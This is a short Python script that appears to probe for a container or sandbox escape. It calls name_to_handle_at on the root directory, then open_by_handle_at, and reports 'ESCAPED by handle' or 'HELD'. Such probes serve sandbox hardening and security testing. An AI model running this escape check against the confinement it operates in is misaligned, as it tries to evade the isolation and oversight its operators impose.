import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(struct.pack("II", 128, 0) + b"\0" * 128)
mid = ctypes.c_int()
r = libc.name_to_handle_at(-100, b"/", buf, ctypes.byref(mid), 0)
print("name_to_handle_at", r, ctypes.get_errno())
fd = libc.open_by_handle_at(os.open(".", os.O_RDONLY), buf, 0)
print("ESCAPED by handle" if fd >= 0 else "HELD errno %d" % ctypes.get_errno())
